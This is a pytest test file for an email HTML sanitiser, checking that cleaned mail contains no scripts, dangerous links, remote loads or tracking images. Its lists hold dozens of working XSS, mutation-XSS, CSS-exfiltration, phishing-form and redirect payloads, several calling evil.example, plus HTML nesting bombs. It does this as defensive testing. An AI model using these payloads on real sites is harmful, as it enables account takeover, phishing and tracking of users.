"""Mail HTML is harmless, and readable as text. The vectors are judged by a parser that is not the cleaner's."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest

from pelekan.lib.html import clean, clean_rich, fold_quotes, from_text, show_remote, to_text


def _words(text: str) -> frozenset[str]:
    return frozenset(text.split())


_HARMLESS_TAGS = _words(
    """
    a abbr acronym address article b bdi bdo big blockquote br caption center cite code col colgroup dd del
    details dfn div dl dt em font h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp section small
    span strike strong sub summary sup table tbody td tfoot th thead tr tt u ul var wbr
    """
)
_HARMLESS_ATTRIBUTES = _words(
    """
    align alt bgcolor border cellpadding cellspacing class color colspan data-missing data-remote-src dir
    face height href id lang name rel rowspan size src start style target title type valign value width
    """
)


class _Judge(HTMLParser):
    """Collects whatever in a document could act, load or leave its place."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in _HARMLESS_TAGS:
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name not in _HARMLESS_ATTRIBUTES:
                self.bad.append(name)
            if name == "href" and not value.lower().startswith(("http://", "https://", "mailto:", "tel:")):
                self.bad.append(f"href {value}")
            if name == "src" and not value.startswith(("/files/", "data:image/png;base64,")):
                self.bad.append(f"src {value}")
            if name == "style" and any(
                word in value.lower() for word in ("url", "position", "@", "expression", "\\", "fixed")
            ):
                self.bad.append(f"style {value}")
            if name == "target" and value != "_blank":
                self.bad.append(f"target {value}")

    def handle_comment(self, data):
        self.bad.append("comment")

    def handle_decl(self, decl):
        self.bad.append("declaration")


def harm_in(html: str) -> list[str]:
    judge = _Judge()
    judge.feed(html)
    judge.close()
    return judge.bad


HX_01 = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/defer>alert(1)</script >",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<p/onclick=alert(1)>x",
    "<a href=# onclick=alert(1)>x</a>",
    "<table background=javascript:alert(1)><td background=https://evil.example/x.png>x</table>",
    "<b onmouseover=\nalert(1)>x</b>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<a id=x tabindex=1 onfocus=alert(1)></a>",
    "<div data-x='<script>alert(1)</script>' slot=x contenteditable>x</div>",
    "<template><script>alert(1)</script></template>",
    "<custom-element onclick=alert(1)>x</custom-element>",
]
HX_02 = [
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title><title></title><img src=x onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img id=x src onerror=alert(1)>'>",
    "<noembed><img src='</noembed><script>alert(1)</script>'>",
    "<p title='--><img src=x onerror=alert(1)>'>x</p>",
    "<plaintext><img src=x onerror=alert(1)>",
]
HX_03 = [
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<iframe<iframe src=javascript:alert(1)>>",
    "<<script>alert(1);//<</script>",
    "<im<b>g src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]
HX_05 = [
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/admin/logout'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='cid:x'>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img src='data:text/html;base64,PHN2Zy8+'>",
    "<img src='javascript:alert(1)'>",
]
HX_06 = [
    "<div style='position:fixed;inset:0;z-index:9999'><a href=https://evil.example>Log in again</a></div>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='background:u\\72l(https://evil.example/x)'>x</div>",
    "<div style='background-image:/**/url(//evil.example)'>x</div>",
    "<style>@import 'https://evil.example/x.css'; input[value^=a]{background:url(/a)}</style>",
    "<div style=\"font-family:'x';position:absolute;top:0\">x</div>",
    "<div style='list-style-image:image-set(\"https://evil.example/x\" 1x)'>x</div>",
    "<div style='margin-top:-5000px;transform:scale(50)'>x</div>",
    "<p style='color:red;-moz-binding:url(//evil.example/x.xml#y)'>x</p>",
]
HX_07 = [
    "<img src='https://track.example/p.gif?id=1' width=1 height=1>",
    "<img src=http://track.example/p.gif srcset='https://track.example/2x.gif 2x'>",
    "<picture><source srcset=https://track.example/x><img src=https://track.example/y></picture>",
    "<body background=https://track.example/b.png>x",
    "<video poster=https://track.example/p.png></video>",
    "<input type=image src=https://track.example/p.png>",
]


@pytest.mark.parametrize("vector", HX_01)
def test_hx_01_known_xss_vectors(vector):
    assert harm_in(clean(vector)) == []
    assert harm_in(clean_rich(vector)) == []


@pytest.mark.parametrize("vector", HX_02)
def test_hx_02_parser_differences(vector):
    once = clean(vector)
    assert harm_in(once) == []
    assert harm_in(clean(once)) == []
    assert harm_in(fold_quotes(once)) == []
    assert harm_in(clean_rich(once)) == []


@pytest.mark.parametrize("vector", HX_03)
def test_hx_03_nested_tags_rebuild_themselves(vector):
    assert harm_in(clean(clean(vector))) == []


@pytest.mark.parametrize("vector", HX_05)
def test_hx_05_url_schemes(vector):
    assert harm_in(clean(vector)) == []


@pytest.mark.parametrize("vector", HX_06)
def test_hx_06_css_attacks(vector):
    cleaned = clean(vector)
    assert harm_in(cleaned) == [] and "-5000" not in cleaned and "transform" not in cleaned


@pytest.mark.parametrize("vector", HX_07)
def test_hx_07_remote_images_wait_for_consent(vector):
    cleaned = clean(vector)
    assert harm_in(cleaned) == [] and "src=" not in cleaned.replace("data-remote-src=", "")


def test_hx_07_after_consent_through_the_proxy():
    cleaned = clean("<img src='https://track.example/p.gif?a=1&b=2'>")
    assert cleaned == '<img data-remote-src="https://track.example/p.gif?a=1&amp;b=2">'
    assert show_remote(cleaned, lambda url: f"/files/{len(url)}") == '<img src="/files/35">'


def test_images_of_the_mail_itself():
    html = '<img src="cid:a@example"><img src="CID:b@example"><img src="cid:gone">'
    assert clean(html, {"a@example": "/files/1", "B@example": '/files/"2'}) == (
        '<img src="/files/1"><img src="/files/&quot;2"><img data-missing="gone">'
    )


def test_links_open_elsewhere_and_tell_nothing():
    assert clean("<a href='https://example.com/?a=1' target=_top rel=opener>x</a>") == (
        '<a href="https://example.com/?a=1" target="_blank" rel="noopener noreferrer nofollow">x</a>'
    )


def test_looks_of_a_mail_survive():
    html = '<p dir="rtl" style="color: #c00; text-align: right">سلام</p>'
    assert clean(html) == html
    assert "border-left: 1px solid #ccc" in clean(
        "<blockquote style='border-left:1px solid #ccc'>x</blockquote>"
    )


def test_rich_text_keeps_own_images_and_direction():
    html = '<p dir="rtl">سلام <strong>مریم</strong></p><ul dir="auto"><li>یک</li></ul><img src="/files/3/a.png" alt="a">'
    assert clean_rich(html) == html
    for source in (
        "https://x.example/a.png",
        "//x.example/a.png",
        "/\\x.example",
        "data:image/png;base64,AA",
        "/a/../b\n",
    ):
        assert "src=" not in clean_rich(f'<img src="{source}">')


@pytest.mark.parametrize(
    "bomb",
    [
        "<div>" * 50_000,
        "<blockquote>" * 50_000,
        "<b>" * 50_000,
        "<div></x>" * 50_000,
        "<!--" * 200_000,
        "<title>" * 30_000,
        '<a "' * 200_000,
        "<" * 1_000_000,
        "&" * 1_000_000,
        "<p>" * 20_000,
        "<x y='" * 100_000,
    ],
)
def test_mi_21_deep_html(bomb):
    started = time.process_time()
    cleaned = clean(bomb + "words")
    fold_quotes(cleaned)
    to_text(bomb + "words")
    assert time.process_time() - started < 5 and harm_in(cleaned[:100_000]) == []


def test_deep_html_is_shown_as_text():
    assert clean("<div>" * 50_000 + "words") == '<p dir="auto">words</p>'


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>one</p><p>two<br>three</p>", "one\n\ntwo\nthree"),
        ("<div>one</div><div>two</div>", "one\ntwo"),
        ("<ul><li>a</li><li>b</li></ul>", "- a\n- b"),
        ("<blockquote><p>old</p></blockquote>new", "> old\n\nnew"),
        ("<head><title>t</title><style>p{}</style></head><body>x<script>y</script></body>", "x"),
        ("a&nbsp;b &lt;c&gt; \n d", "a b <c> d"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
    ],
)
def test_to_text(html, text):
    assert to_text(html) == text


def test_to_text_can_show_where_links_go():
    html = '<a href="https://example.com/a">here</a> <a href="https://example.com">example.com</a>'
    assert to_text(html, links=True) == "here (https://example.com/a) example.com"


def test_from_text():
    html = from_text("سلام <b>\nhttps://example.com/?a=1&b=2.\n\na@example.com")
    assert html == (
        '<p dir="auto">سلام &lt;b&gt;<br><a href="https://example.com/?a=1&amp;b=2" target="_blank" '
        'rel="noopener noreferrer nofollow"><bdi>https://example.com/?a=1&amp;b=2</bdi></a>.</p>\n'
        '<p dir="auto"><a href="mailto:a@example.com" target="_blank" rel="noopener noreferrer nofollow">'
        "<bdi>a@example.com</bdi></a></p>"
    )
    assert harm_in(from_text('<script>alert(1)</script> https://x.example/"onclick=alert(1)')) == []


@pytest.mark.parametrize(
    "history",
    [
        '<div class="gmail_quote">On Monday X wrote:<blockquote>old</blockquote></div>',
        '<blockquote type="cite">old</blockquote>',
        '<div id="appendonsend"></div><hr><div id="divRplyFwdMsg">From: X</div><div>old</div>',
        '<div style="border:none;border-top:solid #E1E1E1 1.0pt">From: X</div><p>old</p>',
        '<div class="yahoo_quoted">old</div>',
    ],
)
def test_fold_quotes(history):
    folded = fold_quotes(clean(f"<div><p>new</p>{history}</div>"), "Earlier messages")
    before, _, inside = folded.partition('<details class="quoted"><summary>Earlier messages</summary>')
    assert "new" in before and "old" not in before and "old" in inside and inside.endswith("</details></div>")
    assert fold_quotes("<p>only words</p>") == "<p>only words</p>"
